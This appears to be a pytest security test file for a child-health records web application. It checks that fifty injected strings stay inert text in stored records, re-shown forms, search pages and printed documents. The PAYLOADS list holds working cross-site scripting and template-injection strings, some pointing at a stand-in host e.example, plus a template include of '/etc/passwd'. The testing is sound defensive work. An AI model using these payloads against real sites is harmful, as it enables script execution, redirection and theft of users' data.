"""S-56: fifty texts that a browser, a template or a style sheet would take for something else stay text wherever read.

They stand in the fields of records, in what a refused form shows again, in addresses, on the lists of everybody who
reads them and on every paper. (The policy that would stop them all the same is looked at in `tests/journeys/`.)
"""

import re
from dataclasses import fields, is_dataclass, replace
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import pytest

from mengya_health.errors import Invalid
from mengya_health.growth.chart import Chart
from mengya_health.handouts.render import DOCUMENTS, _templates
from mengya_health.operations.installation import begin_work
from mengya_health.people.queries import find_child
from mengya_health.record.commands import record_entry
from tests.factories import a_child, a_guardian, client_of
from tests.handouts.test_render import SAMPLES
from tests.web.test_doors import OF_THE_DOOR, World, forms_of, world

__all__ = ["world"]

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//e.example/3></script>",
    "<script/4>",
    "</script><script>alert(5)</script>",
    "<img src=x onerror=alert(6)>",
    "<img/src=`x`onerror=alert(7)>",
    "<IMG SRC=javascript:alert(8)>",
    "<svg onload=alert(9)>",
    "<svg/onload=alert(10)>",
    "<svg><script>11</script>",
    "<svg><a xlink:href=javascript:alert(12)>x",
    "<body onload=alert(13)>",
    "<iframe src=javascript:alert(14)>",
    "<iframe srcdoc='<script>15</script>'>",
    "<object data=javascript:alert(16)>",
    "<embed src=//e.example/17>",
    "<a href=javascript:alert(18)>x</a>",
    "<a href='java\tscript:alert(19)'>x",
    "<a href=data:text/html,20>x</a>",
    "<form action=//e.example/21><input name=pin>",
    "<button formaction=//e.example/22>x",
    "<base href=//e.example/23>",
    "<meta http-equiv=refresh content='0;//e.example/24'>",
    "<link rel=stylesheet href=//e.example/25>",
    "<style>@import '//e.example/26';</style>",
    "<p style=background:url(//e.example/27)>",
    "<input autofocus onfocus=28>",
    "<details open ontoggle=alert(29)>",
    "<video><source onerror=alert(30)>",
    "<audio src=x onerror=alert(31)>",
    "<math><mi xlink:href=javascript:alert(32)>x",
    "<marquee onstart=alert(33)>",
    "<table background=//e.example/34>",
    '" onmouseover=alert(35) x="',
    "' onmouseover=alert(36) x='",
    '"><script>alert(37)</script>',
    "'><img src=x onerror=38>",
    "</textarea><script>alert(39)</script>",
    "</title><script>alert(40)</script>",
    "</option></select><img onerror=41 src>",
    "<!--><script>alert(42)</script>-->",
    "<![CDATA[<script>alert(43)</script>]]>",
    "<?php echo 44 ?>",
    "{{ 98765*43210 }}45",
    "{% include '/etc/passwd' %}46",
    "${7*47}",
    "#{7*48}",
    "&lt;script&gt;alert(49)&lt;/script&gt;",
    "&#60;script&#62;alert(50)&#60;/script&#62;",
)
LEADING = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcdoc", "http-equiv")
FOREIGN = {"iframe", "object", "embed", "base", "style", "marquee", "math", "video", "audio", "applet", "frame"}
TYPED_INTO = re.compile(r'<(?:textarea|input(?![^>]*type="(?!text|search)))[^>]*\bname="([^"]+)"')
RADIO = re.compile(r'<input(?=[^>]*type="radio")[^>]*\bname="([^"]+)"[^>]*\bvalue="([^"]*)"')


class Page(HTMLParser):
    """What a browser would make of a page: its words, and whatever in it could run or lead elsewhere."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.words, self.alive = "", []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list) -> None:
        given = dict(attrs)
        self.words += "\n" + "\n".join(str(value) for value in given.values())
        if tag in FOREIGN or (tag == "script" and not (given.get("src") or "").startswith("/static/")):
            self.alive.append((tag, attrs))
        for name, value in attrs:
            told = urlsplit((value or "").strip())
            leads_away = name in LEADING and (told.netloc or told.scheme not in ("", "tel"))
            if name.startswith("on") or name in ("style", "srcdoc") or leads_away:
                self.alive.append((tag, name, value))

    def handle_data(self, data: str) -> None:
        self.words += data


def inert(answer, where) -> str:
    """Return the words of a page on which nothing came alive."""
    if answer.mimetype != "text/html":
        return ""
    page = Page(answer.get_data(as_text=True))
    assert page.alive == [], where
    assert str(98765 * 43210) not in page.words, where
    return page.words


@pytest.mark.parametrize("database", ["sqlite"])
def test_what_is_stored_of_fifty_children_is_text_for_everybody_who_reads_it(installation, district):
    """S-56: names, allergies, contacts, advice, observations, files; lists, sheets, timelines, searches, the audit."""
    pages = {"doctor": [], "teacher": [], "mother": [], "security_officer": []}
    for payload in PAYLOADS:
        kin = [{"name": payload, "phone": "13800138000", "relation": "mother"}]
        with begin_work(installation, district.doctor) as work:
            child = a_child(work, district, name=payload, allergies=payload, contacts=kin)
            said = {"kind": "advice", "content": {"text": payload}, "happened_on": work.today}
            record_entry(work, child, section="health", **said)
        with begin_work(installation, district.teacher) as work:
            note = {"domain": "eat", "items": [], "logs": [], "note": payload, "setting": "class"}
            found, kinds = find_child(work, child.id), {"section": "behaviour", "kind": "observation"}
            record_entry(work, found, content=note, happened_on=work.today, **kinds)
        pages["doctor"].append(f"/children/{child.id}")
        pages["teacher"].append(f"/class/{child.group_id}/children/{child.id}")
    mother = a_guardian(installation, district, child)
    pages["doctor"] += ["/today", f"/children/{child.id}/edit", f"/children/{child.id}/consents", "/children"]
    pages["doctor"] += [f"/children?found={quote(payload)}" for payload in PAYLOADS[::7]]
    pages["teacher"] += ["/class", f"/nothing/{quote(PAYLOADS[0])}"]
    pages["mother"] += ["/home", f"/home/{child.id}/views", f"/home/{child.id}/record"]
    pages["security_officer"] += ["/oversight", "/oversight/audit"]
    actors = {"doctor": district.doctor, "teacher": district.teacher, "mother": mother}
    actors["security_officer"] = district.security_officer
    words = dict.fromkeys(actors, "")
    for who, actor in actors.items():
        client = client_of(installation, actor)
        for path in pages[who]:
            words[who] += inert(client.get(path), path)
    for who in ("doctor", "teacher"):
        assert [payload for payload in PAYLOADS if payload not in words[who]] == []


@pytest.mark.parametrize("database", ["sqlite"])
def test_what_a_form_shows_again_is_text_in_every_field(world: World):
    """S-56: every field of every form, right or refused, and all pages afterwards."""
    number, shown = 0, ""
    for who in ("doctor", "teacher", "mother", "specialist"):
        client, forms = world.client(world.people[who]), {}
        for _rule, path in world.paths("GET", world.ids[world.child_id]):
            page = client.get(path)
            if page.status_code == 200 and page.mimetype == "text/html":
                text = page.get_data(as_text=True)
                for piece in re.findall(r"<form\b.*?</form>", text, re.DOTALL):
                    forms |= {action: (piece, untouched) for action, untouched in forms_of(piece)}
        for action, (piece, untouched) in forms.items():
            names = [name for name in dict.fromkeys(TYPED_INTO.findall(piece)) if name not in OF_THE_DOOR]
            sent = dict(reversed(RADIO.findall(piece))) | untouched
            for name in names:
                sent[name], number = [PAYLOADS[number % len(PAYLOADS)]], number + 1
            if names:
                shown += inert(client.post(action, data=sent), action)
        for _rule, path in world.paths("GET", world.ids[world.child_id]):
            shown += inert(client.get(path), path)
    assert number > len(PAYLOADS)
    assert len([payload for payload in PAYLOADS if payload in shown]) > len(PAYLOADS) // 2


def with_text(content, text: str):
    """Return a paper's content with this text in every field that takes it."""
    if isinstance(content, tuple):
        return tuple(with_text(each, text) for each in content)
    if not is_dataclass(content) or isinstance(content, Chart):
        return content
    for field in fields(content):
        old = getattr(content, field.name)
        is_text = type(old) is str and not old.isascii()  # else one of a few words
        new = text if is_text else with_text(old, text)
        try:
            content = replace(content, **{field.name: new})
        except (Invalid, TypeError, ValueError):  # there is less room
            continue
    return content


@pytest.mark.parametrize("document", sorted(DOCUMENTS.keys() & SAMPLES.keys()))
def test_on_paper_it_is_text(document):
    """S-56: what a paper is made from, before it becomes a PDF that fetches and runs nothing."""
    template, seen = _templates().get_template(f"print/{document}.html"), 0
    for payload in PAYLOADS:
        html = template.render(content=with_text(SAMPLES[document](), payload), density="normal")
        page = Page(re.sub(r"<style>.*?</style>", "", html, count=1, flags=re.DOTALL))
        assert [each for each in page.alive if "e.example" in str(each) or "alert" in str(each)] == [], payload
        seen += payload in page.words
    assert seen > 20  # a receipt has few texts, and short ones
